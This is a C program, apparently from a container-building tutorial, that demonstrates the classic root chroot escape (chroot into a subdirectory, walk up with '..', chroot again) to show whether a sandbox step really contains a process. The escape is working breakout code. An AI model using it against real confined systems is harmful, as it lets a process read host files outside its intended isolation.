/*
 * escape.c: break out of a chroot, the way root always could.
 *
 *     make -C step03-chroot escape && cp step03-chroot/escape rootfs/
 *     sudo chroot rootfs /escape /etc/os-release     # prints the HOST's file
 *     sudo ./step03 rootfs /escape /etc/os-release   # prints the rootfs's own
 *
 * chroot() changes only where "/" resolves for this process. It does not
 * move the working directory, and root may call chroot() again. So:
 *   1. chroot() into a subdirectory without chdir()-ing into it: the working
 *      directory is now *outside* our root;
 *   2. chdir("..") walks up from there; the kernel only stops ".." at the
 *      process's root, which we are no longer below, so we reach the real "/";
 *   3. chroot(".") makes that real "/" our root again.
 * Then print FILE as it is seen from there. Exit 0 if FILE was read.
 * Against step 03, the walk up ends at the container's own "/".
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char dir[] = "/tmp/escape.XXXXXX";
	char buf[4096];
	ssize_t n;
	int fd;

	if (argc != 2) {
		fprintf(stderr, "usage: escape FILE\n");
		return 2;
	}
	if (chdir("/") < 0 || !mkdtemp(dir)) {
		perror("escape: make a subdirectory");
		return 2;
	}
	if (chroot(dir) < 0) { /* not root: CAP_SYS_CHROOT */
		perror("escape: chroot into a subdirectory");
		rmdir(dir);
		return 2;
	}
	rmdir(dir + 1);		      /* relative to our working directory, still the old "/" */
	for (int i = 0; i < 256; i++) /* deeper than any real path */
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("escape: chroot .");
		return 2;
	}
	fd = open(argv[1], O_RDONLY);
	if (fd < 0) {
		printf("contained: %s is not reachable\n", argv[1]);
		return 1;
	}
	printf("%s, read after the escape attempt:\n", argv[1]);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, n, stdout);
	return 0;
}
